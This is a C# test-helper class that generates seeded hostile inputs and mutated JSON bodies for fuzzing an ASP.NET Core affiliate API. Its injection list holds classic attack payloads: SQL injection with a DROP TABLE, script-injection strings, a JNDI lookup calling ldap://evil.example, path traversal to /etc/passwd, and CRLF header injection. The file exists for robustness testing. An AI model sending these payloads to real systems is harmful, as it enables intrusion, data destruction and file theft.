using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Affiliate.AspNetCore.Tests.Hostile;

/// <summary>
/// Malformed values from a seeded <see cref="Random"/>: the same seed gives the same inputs, so a failure printed
/// with its seed is replayed by setting <c>AFFILIATE_HOSTILE_SEED</c>. Strings come from hostile families (injection,
/// control characters, odd Unicode, numbers that overflow, encodings) and JSON documents are mutated the ways a
/// broken or malicious client sends them (types swapped, huge or negative numbers, unknown currencies, deep nesting,
/// missing or extra members, truncation).
/// </summary>
public sealed class HostileGenerator(int seed)
{
    private static readonly string[] Injections =
    [
        "' OR '1'='1",
        "'; DROP TABLE affiliate_partners; --",
        "\" OR \"\"=\"",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%00",
        "%2e%2e%2f",
        "\r\nSet-Cookie: owned=1",
        "\r\nLocation: https://evil.example",
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "%s%s%s%n",
        "\u202Egnp.exe",
        "\uFEFF",
        "\u0000",
        "\uD800",
        "\U0001F4A9",
        "NaN",
        "Infinity",
        "-0",
        "1e309",
        "-1",
        "0",
        "99999999999999999999999999999",
        "-9223372036854775809",
        "",
        " ",
        "null",
        "true",
        "[]",
        "{}",
        "__proto__",
        "constructor",
        "a\tb",
        "a/b",
        "a%2Fb",
        "*",
        "?",
        "#",
        "&",
        "=",
        "+",
    ];

    private static readonly string[] Currencies = ["XXX", "ZZZ", "eu", "EURO", "", "€", "123", "e\u0000r", "BTC"];

    private static readonly string[] MemberNames =
    [
        "id",
        "code",
        "amount",
        "currency",
        "partnerId",
        "expectedVersion",
        "expectedRevision",
        "reason",
        "reference",
        "destination",
        "url",
        "sponsorId",
        "tier",
        "profile",
        "version",
        "conversionIds",
        "approve",
        "subIds",
        "landingUrl",
        "referrer",
        "visitorId",
        "sub1",
        "name",
        "email",
        "referralCodes",
        "status",
    ];

    // Nesting the mutations add may go past the serializer's default depth of 64 on purpose.
    private static readonly JsonSerializerOptions Deep = new() { MaxDepth = 4096 };

    private readonly Random _random = new(seed);

    /// <summary>The seed the inputs come from.</summary>
    public int Seed { get; } = seed;

    /// <summary>True with the probability <paramref name="p"/>.</summary>
    public bool Chance(double p) => _random.NextDouble() < p;

    /// <summary>A number in [min, max).</summary>
    public int Next(int min, int max) => _random.Next(min, max);

    /// <summary>One of the items.</summary>
    public T Pick<T>(IReadOnlyList<T> items) => items[_random.Next(items.Count)];

    /// <summary>One of the characters.</summary>
    public char Pick(string characters) => characters[_random.Next(characters.Length)];

    /// <summary>A hostile string: an injection, random characters of every kind, or a mix; now and then huge.</summary>
    public string Junk()
    {
        switch (_random.Next(10))
        {
            case < 4:
                return Pick(Injections);
            case < 6:
                return RandomText(_random.Next(1, 40));
            case 6:
                return Pick(Injections) + RandomText(_random.Next(1, 10)) + Pick(Injections);
            case 7:
                return new string(Pick("aZ9<%\u00e9"), _random.Next(300, 5000));
            case 8:
                return _random.Next(4) switch
                {
                    0 => _random.NextInt64(long.MinValue, long.MaxValue).ToString(CultureInfo.InvariantCulture),
                    1 => (_random.NextDouble() * Math.Pow(10, _random.Next(-30, 300))).ToString(
                        "R",
                        CultureInfo.InvariantCulture
                    ),
                    2 => "2026-" + _random.Next(0, 99) + "-" + _random.Next(0, 99),
                    _ => Convert.ToBase64String(Bytes(_random.Next(1, 64))),
                };
            default:
                return Uri.EscapeDataString(Pick(Injections)) + (Chance(0.5) ? "%" : "%zz");
        }
    }

    /// <summary>Random characters: ASCII, controls, Latin, CJK, emoji, lone surrogates, format characters.</summary>
    public string RandomText(int length)
    {
        var text = new StringBuilder(length);
        for (var i = 0; i < length; i++)
        {
            _ = _random.Next(8) switch
            {
                0 => text.Append((char)_random.Next(0, 32)),
                1 => text.Append((char)_random.Next(0xD800, 0xE000)),
                2 => text.Append((char)_random.Next(0x2000, 0x2070)),
                3 => text.Append((char)_random.Next(0x4E00, 0x4F00)),
                4 => text.Append(char.ConvertFromUtf32(_random.Next(0x1F300, 0x1F6FF))),
                5 => text.Append(Pick("<>\"'&%;/\\{}[]():=?#@!$*+,|`~^")),
                _ => text.Append((char)_random.Next(32, 127)),
            };
        }

        return text.ToString();
    }

    /// <summary>Random bytes.</summary>
    public byte[] Bytes(int length)
    {
        var bytes = new byte[length];
        _random.NextBytes(bytes);
        return bytes;
    }

    /// <summary>
    /// <paramref name="json"/> mutated one to three times at random places, then now and then broken as text
    /// (truncated, a character flipped, a byte-order mark, a duplicate member, a trailing comma).
    /// </summary>
    public string MutateJson(string json)
    {
        var root = JsonNode.Parse(json);
        var times = _random.Next(1, 4);
        for (var i = 0; i < times; i++)
        {
            root = MutateNode(root);
        }

        var text = root?.ToJsonString(Deep) ?? "null";
        return _random.Next(10) switch
        {
            0 => text[.._random.Next(0, text.Length)],
            1 => FlipCharacter(text),
            2 => "\uFEFF" + text,
            3 when text.StartsWith('{') && text.Length > 2 => "{\"id\":1," + text[1..],
            4 when text.EndsWith('}') => text[..^1] + ",}",
            _ => text,
        };
    }

    /// <summary>A JSON body of the members the APIs read, each with a value of a random (often wrong) type.</summary>
    public string RandomJsonBody()
    {
        var body = new JsonObject();
        var members = _random.Next(0, 6);
        for (var i = 0; i < members; i++)
        {
            body[Pick(MemberNames)] = RandomValue(depth: 0);
        }

        return _random.Next(8) switch
        {
            0 => RandomValue(0)?.ToJsonString() ?? "null",
            1 => MutateJson(body.ToJsonString()),
            _ => body.ToJsonString(),
        };
    }

    /// <summary>A body that is no valid JSON document at all: empty, cut, nested too deep, huge, or binary.</summary>
    public string BrokenBody() =>
        _random.Next(8) switch
        {
            0 => "",
            1 => "{",
            2 => new string('[', _random.Next(65, 3000)) + new string(']', _random.Next(0, 3000)),
            3 => "{\"a\":" + new string('{', _random.Next(65, 500)),
            4 => Encoding.Latin1.GetString(Bytes(_random.Next(1, 200))),
            5 => "{\"x\":\"" + new string('x', _random.Next(100_000, 600_000)) + "\"}",
            6 => "{'single':'quotes'}",
            _ => "NaN",
        };

    /// <summary>A JSON value of a random type; objects and arrays stay shallow.</summary>
    public JsonNode? RandomValue(int depth) =>
        _random.Next(depth > 1 ? 7 : 9) switch
        {
            0 => null,
            1 => JsonValue.Create(Chance(0.5)),
            2 => JsonValue.Create(_random.NextInt64(long.MinValue, long.MaxValue)),
            3 => JsonValue.Create(Pick(new[] { -1e308, 1e308, -0.0000001, double.Epsilon, -5, 0 })),
            4 => JsonValue.Create(Pick(Currencies)),
            5 or 6 => JsonValue.Create(Junk()),
            7 => new JsonArray(RandomValue(depth + 1), RandomValue(depth + 1)),
            _ => new JsonObject { [Pick(MemberNames)] = RandomValue(depth + 1) },
        };

    private JsonNode? MutateNode(JsonNode? root)
    {
        var nodes = new List<JsonNode>();
        Collect(root, nodes);
        if (nodes.Count == 0)
        {
            return RandomValue(0);
        }

        var target = Pick(nodes);
        var replacement = _random.Next(9) switch
        {
            0 => RandomValue(0),
            1 => JsonNode.Parse(Pick(new[] { "1e400", "123456789012345678901234567890", "-99999999999", "-0.0" })),
            2 => JsonValue.Create(-_random.Next(1, 1_000_000)),
            3 => JsonValue.Create(Pick(Currencies)),
            4 => Nest(_random.Next(10, 300)),
            5 => JsonValue.Create(Junk()),
            6 => JsonValue.Create(decimal.MaxValue),
            7 => target is JsonValue ? new JsonArray(JsonValue.Create(target.ToJsonString())) : JsonValue.Create(""),
            _ => Remove(target) ? target : null,
        };
        if (ReferenceEquals(replacement, target))
        {
            return root;
        }

        if (target.Parent is JsonObject parent)
        {
            parent[target.GetPropertyName()] = replacement;
            return root;
        }

        if (target.Parent is JsonArray array)
        {
            array[target.GetElementIndex()] = replacement;
            return root;
        }

        return replacement;
    }

    private static bool Remove(JsonNode node)
    {
        if (node.Parent is JsonObject parent)
        {
            parent.Remove(node.GetPropertyName());
            return true;
        }

        return false;
    }

    private static JsonNode Nest(int depth)
    {
        JsonNode node = JsonValue.Create(1);
        for (var i = 0; i < depth; i++)
        {
            node = new JsonArray(node);
        }

        return node;
    }

    private static void Collect(JsonNode? node, List<JsonNode> into)
    {
        if (node is null)
        {
            return;
        }

        into.Add(node);
        switch (node)
        {
            case JsonObject o:
                foreach (var (_, child) in o)
                {
                    Collect(child, into);
                }

                break;
            case JsonArray a:
                foreach (var child in a)
                {
                    Collect(child, into);
                }

                break;
        }
    }

    private string FlipCharacter(string text)
    {
        if (text.Length == 0)
        {
            return "\u0001";
        }

        var chars = text.ToCharArray();
        chars[_random.Next(chars.Length)] = Pick("\"{}[],:\\\u0000x9");
        return new string(chars);
    }
}
